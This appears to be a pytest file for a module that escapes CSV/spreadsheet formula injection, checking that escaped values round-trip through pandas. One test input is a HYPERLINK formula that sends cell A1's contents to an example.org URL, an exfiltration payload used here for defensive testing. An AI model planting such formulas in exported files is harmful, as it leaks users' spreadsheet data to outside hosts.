"""What is written for spreadsheets is data, and comes back as it was."""

import io

import pandas as pd
import pytest

from tff_partial.analysis import spreadsheets

_LINK = '=HYPERLINK("http://example.org/?" & A1, "film")'


@pytest.mark.parametrize(
  'text', [_LINK, '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1', '-']
)
def test_formulas_are_marked_as_texts(text):
  assert spreadsheets.escaped(text) == f"'{text}"


@pytest.mark.parametrize(
  'text', ['Heat', '', '-1', '+2.5e-3', '-.5', 'a=b', "'Round Midnight", '8½']
)
def test_all_else_stays(text):
  assert spreadsheets.escaped(text) == text


@pytest.mark.parametrize('text', [_LINK, "'=1", "''=1", "'Round", '-1', 'Heat'])
def test_what_was_written_is_read_again(text):
  assert spreadsheets.unescaped(spreadsheets.escaped(text)) == text


def test_a_frame_keeps_its_numbers_to_the_bit():
  frame = pd.DataFrame(
    {
      'user': ['=1', 'NA', None],
      '=attribute': pd.Categorical(['-x', 'y', 'y']),
      'places': [1, -2, 3],
      'share': [0.1 + 0.2, -1e-300, float('nan')],
      'seen': [True, False, True],
    }
  )
  escaped = spreadsheets.escaped_frame(frame)
  assert escaped['user'].tolist() == ["'=1", 'NA', None]
  assert escaped.columns[1] == "'=attribute"
  assert escaped["'=attribute"].tolist() == ["'-x", 'y', 'y']
  numbers = ['places', 'share', 'seen']
  pd.testing.assert_frame_equal(escaped[numbers], frame[numbers])
  # And the frame itself is not changed.
  assert frame['user'][0] == '=1'
  read = pd.read_csv(
    io.StringIO(escaped.to_csv(index=False)),
    converters={'user': spreadsheets.unescaped},
    float_precision='round_trip',
  )
  assert read['user'].tolist() == ['=1', 'NA', '']
  assert read['share'][0] == 0.1 + 0.2
